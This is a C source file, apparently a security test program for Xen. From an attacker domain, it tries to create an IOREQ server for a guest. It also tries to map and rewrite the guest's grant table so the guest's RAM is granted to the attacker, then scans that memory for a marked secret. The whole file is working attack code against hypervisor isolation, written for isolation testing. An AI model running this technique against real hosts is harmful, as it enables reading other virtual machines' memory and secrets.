// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * resource.c - what a domain can do that may map the resources of a guest
 * (XENMEM_acquire_resource), but not the guest.
 *
 *	vg-resource ioreq DOMID
 *		make an IOREQ server for the guest, map its page, end it again
 *	vg-resource gnttab DOMID OWN-DOMID MIB
 *		map the last frame of the guest's grant table, write
 *		entries that grant the guest's own pages to this domain, map
 *		those through gntdev, and look for "VG-SECRET:" and 64 hexadecimal digits in
 *		all MIB of the guest's memory
 *
 * Says in one line what came of it.  Exit status: 0 it worked, 1 it was refused
 * (errno in the line), 2 called wrongly, 3 nothing was refused and nothing
 * found.
 *
 * A test's program, for the domain of an attacker.  A frame beyond those that
 * the guest uses is taken: Xen makes the table longer for whoever asks, and the
 * guest notices nothing.
 */
#include <ctype.h>
#include <errno.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>

#define __XEN_TOOLS__ 1
#include <xendevicemodel.h>
#include <xenforeignmemory.h>
#include <xengnttab.h>
#include <xen/grant_table.h>
#include <xen/hvm/hvm_op.h>
#include <xen/memory.h>

#define PAGE_BYTES	4096UL
#define RAM_FIRST	0x40000UL	/* GUEST_RAM0_BASE, in pages */
#define GRANTS_PER_FRAME (PAGE_BYTES / sizeof(grant_entry_v1_t))
#define BATCH_PAGES	GRANTS_PER_FRAME
#define TABLE_FRAMES	64		/* Xen's default limit */
#define MARK		"VG-SECRET:"
#define DIGITS		64

static int refused(const char *what, int err)
{
	printf("%s refused: %s (errno %d)\n", what, strerror(err), err);
	return 1;
}

static int try_ioreq(domid_t domid)
{
	xenforeignmemory_handle *fmem = xenforeignmemory_open(NULL, 0);
	xendevicemodel_handle *dm = xendevicemodel_open(NULL, 0);
	xenforeignmemory_resource_handle *res;
	void *page = NULL;
	ioservid_t id;
	int err;

	if (!fmem || !dm)
		return refused("opening /dev/xen/privcmd", errno);
	if (xendevicemodel_create_ioreq_server(dm, domid,
					       HVM_IOREQSRV_BUFIOREQ_OFF, &id))
		return refused("an IOREQ server", errno);
	res = xenforeignmemory_map_resource(fmem, domid,
			XENMEM_resource_ioreq_server, id,
			XENMEM_resource_ioreq_server_frame_ioreq(0), 1, &page,
			PROT_READ | PROT_WRITE, 0);
	err = errno;
	xendevicemodel_destroy_ioreq_server(dm, domid, id);
	if (!res)
		return refused("the page of an IOREQ server", err);
	printf("IOREQ server %u of domain %u: its page is mapped\n", id, domid);
	return 0;
}

/* The digits behind the mark, or NULL. */
static const char *find_secret(const char *mem, size_t bytes)
{
	size_t mark = strlen(MARK), at, n;

	for (at = 0; at + mark + DIGITS <= bytes; at++) {
		if (mem[at] != MARK[0] || memcmp(mem + at, MARK, mark))
			continue;
		for (n = 0; n < DIGITS; n++)
			if (!isxdigit((unsigned char)mem[at + mark + n]))
				break;
		if (n == DIGITS)
			return mem + at + mark;
	}
	return NULL;
}

static int try_gnttab(domid_t domid, domid_t self, unsigned long mib)
{
	xenforeignmemory_handle *fmem = xenforeignmemory_open(NULL, 0);
	xengnttab_handle *gnt = xengnttab_open(NULL, 0);
	unsigned long pages = mib << 8, done, n, seen = 0;
	uint32_t refs[BATCH_PAGES];
	volatile grant_entry_v1_t *entry;
	const char *secret;
	void *frame = NULL;
	char *mem;

	if (!fmem)
		return refused("opening /dev/xen/privcmd", errno);
	if (!gnt)
		return refused("opening /dev/xen/gntdev", errno);
	if (!xenforeignmemory_map_resource(fmem, domid,
			XENMEM_resource_grant_table,
			XENMEM_resource_grant_table_id_shared, TABLE_FRAMES - 1,
			1, &frame, PROT_READ | PROT_WRITE, 0))
		return refused("the guest's grant table", errno);
	entry = frame;
	for (done = 0; done < pages; done += BATCH_PAGES) {
		for (n = 0; n < BATCH_PAGES; n++) {
			refs[n] = (TABLE_FRAMES - 1) * GRANTS_PER_FRAME + n;
			entry[n].domid = self;
			entry[n].frame = RAM_FIRST + done + n;
			/* Xen looks at the flags first: they come last. */
			__atomic_store_n(&entry[n].flags, GTF_permit_access,
					 __ATOMIC_RELEASE);
		}
		mem = xengnttab_map_domain_grant_refs(gnt, BATCH_PAGES, domid,
						      refs, PROT_READ);
		if (!mem)
			return refused("mapping what the attacker has granted to itself",
				       errno);
		seen += BATCH_PAGES;
		secret = find_secret(mem, BATCH_PAGES * PAGE_BYTES);
		if (secret) {
			printf("grant table of domain %u mapped and written; secret in the first %lu pages: %.*s\n",
			       domid, seen, DIGITS, secret);
			return 0;
		}
		xengnttab_unmap(gnt, mem, BATCH_PAGES);
		for (n = 0; n < BATCH_PAGES; n++)
			entry[n].flags = 0;
	}
	printf("grant table of domain %u mapped and written, %lu pages read, no secret found\n",
	       domid, seen);
	return 3;
}

int main(int argc, char **argv)
{
	domid_t domid = argc > 2 ? (domid_t)strtoul(argv[2], NULL, 0) : 0;

	if (argc == 3 && !strcmp(argv[1], "ioreq"))
		return try_ioreq(domid);
	if (argc == 5 && !strcmp(argv[1], "gnttab"))
		return try_gnttab(domid, (domid_t)strtoul(argv[3], NULL, 0),
				  strtoul(argv[4], NULL, 0));
	fputs("Usage: vg-resource ioreq DOMID | vg-resource gnttab DOMID OWN-DOMID MIB\n",
	      stderr);
	return 2;
}
